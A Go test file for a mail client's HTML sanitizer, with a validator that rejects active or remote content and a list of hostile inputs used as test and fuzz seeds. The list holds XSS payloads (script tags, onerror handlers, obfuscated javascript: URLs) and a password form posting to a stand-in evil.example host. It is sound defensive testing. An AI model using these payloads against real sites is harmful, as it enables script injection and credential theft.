package web

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// checkSafe fails if sanitized HTML has anything active or remote: a script, style, form, frame,
// object, embed, link, meta, base, svg or math element; an event handler; a URL attribute other than
// a.href (http, https, mailto) and img.src (data:); or url(), expression() or @import in a style.
func checkSafe(t testing.TB, in, out string) {
	t.Helper()
	if strings.Contains(strings.ToLower(out), "<script") {
		t.Fatalf("script survived:\nin:  %q\nout: %q", in, out)
	}
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return
		}
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
			continue
		}
		tok := z.Token()
		switch tok.Data {
		case "script", "style", "form", "input", "button", "textarea", "select", "iframe", "frame", "frameset",
			"object", "embed", "applet", "link", "meta", "base", "svg", "math", "video", "audio", "source",
			"picture", "template", "noscript", "title", "head", "html", "body":
			t.Fatalf("element %s survived:\nin:  %q\nout: %q", tok.Data, in, out)
		}
		for _, a := range tok.Attr {
			k, v := strings.ToLower(a.Key), strings.ToLower(strings.TrimSpace(a.Val))
			bad := ""
			switch {
			case strings.HasPrefix(k, "on"):
				bad = "event handler"
			case strings.Contains(v, "javascript:") || strings.Contains(v, "vbscript:"):
				bad = "script URL"
			case k == "href" && !(tok.Data == "a" && (strings.HasPrefix(v, "http://") || strings.HasPrefix(v, "https://") || strings.HasPrefix(v, "mailto:"))):
				bad = "href"
			case k == "src" && !(tok.Data == "img" && strings.HasPrefix(v, "data:image/")):
				bad = "src"
			case k == "style" && (strings.Contains(v, "url(") || strings.Contains(v, "expression") || strings.Contains(v, "@import") || strings.Contains(v, "image(")):
				bad = "style with a resource"
			case k == "srcset" || k == "background" || k == "action" || k == "formaction" || k == "poster" ||
				k == "xlink:href" || k == "data" || k == "codebase" || k == "lowsrc" || k == "dynsrc" || k == "http-equiv":
				bad = "URL attribute"
			}
			if bad != "" {
				t.Fatalf("%s %s=%q survived on %s:\nin:  %q\nout: %q", bad, a.Key, a.Val, tok.Data, in, out)
			}
		}
		if tok.Data == "a" {
			var href, rel, target string
			for _, a := range tok.Attr {
				switch a.Key {
				case "href":
					href = a.Val
				case "rel":
					rel = a.Val
				case "target":
					target = a.Val
				}
			}
			if href != "" && !linkURL(href) {
				t.Fatalf("link to %q survived: %q", href, out)
			}
			if href != "" && (rel != "noopener noreferrer" || target != "_blank") {
				t.Fatalf("link without rel/target: %q", out)
			}
		}
	}
}

// hostile is mail HTML that tries everything: each entry must come out without active or remote
// content.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="http://evil.example/track.gif" width=1 height=1>`,
	`<img src="https://evil.example/track.gif">`,
	`<img src="//evil.example/track.gif">`,
	`<img srcset="http://evil.example/a.png 1x" src="data:image/png;base64,iVBORw0KGgo=">`,
	`<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="java&#x09;script:alert(1)">x</a>`,
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="/relative">x</a>`,
	`<a href="https://ok.example/" target="_self" rel="opener">ok</a>`,
	`<a href="mailto:bob@tangle">mail</a>`,
	`<form action="http://evil.example/steal"><input name=p type=password><button>Go</button></form>`,
	`<iframe src="http://evil.example/"></iframe>`,
	`<frameset><frame src="http://evil.example/"></frameset>`,
	`<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf">`,
	`<meta http-equiv="refresh" content="0;url=http://evil.example/">`,
	`<link rel=stylesheet href="http://evil.example/x.css">`,
	`<base href="http://evil.example/">`,
	`<style>body{background:url(http://evil.example/bg.png)}</style><p>x</p>`,
	`<div style="background-image:url(http://evil.example/bg.png)">x</div>`,
	`<div style="background: url('http://evil.example/bg.png')">x</div>`,
	`<p style="color: red; width: expression(alert(1))">x</p>`,
	`<p style="behavior:url(x.htc)">x</p>`,
	`<p style="color:red;list-style-image:url(http://evil.example/i.png)">x</p>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg onload=alert(1)><image href="http://evil.example/x.png"/></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<table background="http://evil.example/bg.png"><tr><td background="http://evil.example/bg.png">x</td></tr></table>`,
	`<body onload=alert(1)>x</body>`,
	`<video poster="http://evil.example/p.png" src="http://evil.example/v.mp4"></video>`,
	`<audio src="http://evil.example/a.mp3"></audio>`,
	`<picture><source srcset="http://evil.example/a.png"><img src="data:image/png;base64,iVBORw0KGgo="></picture>`,
	`<div onclick="alert(1)" onmouseover=alert(1)>x</div>`,
	`<noscript><img src=x onerror=alert(1)></noscript>`,
	`<template><script>alert(1)</script></template>`,
	`<textarea><script>alert(1)</script></textarea>`,
	`<!--<script>alert(1)</script>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<p title="x" lang="en" dir="rtl" id="y" class="z" data-x="1">x</p>`,
	`<blockquote cite="http://evil.example/">q</blockquote>`,
	`<font color="red" face="Arial" size="3" style="font-size:12px">f</font>`,
	`<a href="http://ok.example/"><img src="http://evil.example/x.png"></a>`,
	`<isindex action="javascript:alert(1)">`,
	`<input type=image src="http://evil.example/x.png">`,
	`<div style="position:fixed;top:0">overlay</div>`,
	`"><script>alert(1)</script>`,
	`<a href="https://ok.example/&quot;onmouseover=&quot;alert(1)">x</a>`,
}

func TestSanitizeHostile(t *testing.T) {
	for _, in := range hostile {
		out := SanitizeHTML(in)
		checkSafe(t, in, out)
		// No remote host of the list survives in any attribute (links in the list go to ok.example), and
		// script text survives only as text or inside a percent-encoded link URL.
		if attrHas(out, "evil.example", false) || attrHas(out, "alert", true) || attrHas(out, "msgbox", true) {
			t.Errorf("hostile text survived in an attribute:\nin:  %q\nout: %q", in, out)
		}
	}
}

// attrHas reports whether an attribute value of out contains s (except href values when notHref).
func attrHas(out, s string, notHref bool) bool {
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return false
		case html.StartTagToken, html.SelfClosingTagToken:
			for _, a := range z.Token().Attr {
				if strings.Contains(strings.ToLower(a.Val), s) && !(notHref && a.Key == "href") {
					return true
				}
			}
		}
	}
}

func TestSanitizeKeeps(t *testing.T) {
	cases := []struct{ in, want string }{
		{`<p>Hello <b>Bob</b></p>`, `<p>Hello <b>Bob</b></p>`},
		{`<a href="https://ok.example/x?a=1&b=2">x</a>`, `<a href="https://ok.example/x?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">x</a>`},
		{`<a href="mailto:bob@tangle">m</a>`, `<a href="mailto:bob@tangle" rel="noopener noreferrer" target="_blank">m</a>`},
		{`<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">`, `<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">`},
		{`<p style="color: red; font-weight: bold">x</p>`, `<p style="color: red; font-weight: bold">x</p>`},
		{`<table border="0" cellpadding="4"><tr><td align="center" bgcolor="#ffffff">c</td></tr></table>`,
			`<table border="0" cellpadding="4"><tr><td align="center" bgcolor="#ffffff">c</td></tr></table>`},
		{`<ul><li>one</li></ul>`, `<ul><li>one</li></ul>`},
		{`<style>p{}</style><title>t</title><p>x</p>`, `<p>x</p>`},
		{`<a href="javascript:alert(1)">text stays</a>`, `text stays`},
		{`<img src="http://evil.example/t.gif" width=1 height=1>x`, `x`},
	}
	for _, c := range cases {
		if got := strings.TrimSpace(SanitizeHTML(c.in)); got != c.want {
			t.Errorf("SanitizeHTML(%q)\n got %q\nwant %q", c.in, got, c.want)
		}
	}
}

func TestHTMLToText(t *testing.T) {
	cases := []struct{ in, want string }{
		{`<p>one</p><p>two</p>`, "one\ntwo"},
		{`a<br>b`, "a\nb"},
		{`<head><title>T</title><style>x{}</style></head><body>  spaced   out  </body>`, "spaced out"},
		{`<script>var x = 1;</script>text`, "text"},
		{`<ul><li>a</li><li>b</li></ul>`, "- a\n- b"},
		{`<a href="https://x.example/">link</a>`, "link <https://x.example/>"},
		{`<a href="https://x.example/">https://x.example/</a>`, "https://x.example/"},
		{`<pre>  keep
  this</pre>`, "keep\n  this"},
		{`Fish &amp; chips &lt;3`, "Fish & chips <3"},
		{``, ""},
	}
	for _, c := range cases {
		if got := htmlToText(c.in); got != c.want {
			t.Errorf("htmlToText(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// FuzzSanitize checks that no input makes the sanitizer panic or lets active or remote content
// through (see checkSafe). Seeds: testdata/fuzz/FuzzSanitize and the hostile list.
func FuzzSanitize(f *testing.F) {
	for _, h := range hostile {
		f.Add(h)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out := SanitizeHTML(in)
		checkSafe(t, in, out)
		if attrHas(out, "javascript:", false) {
			t.Fatalf("javascript: URL survived: %q", out)
		}
		_ = htmlToText(in)
	})
}
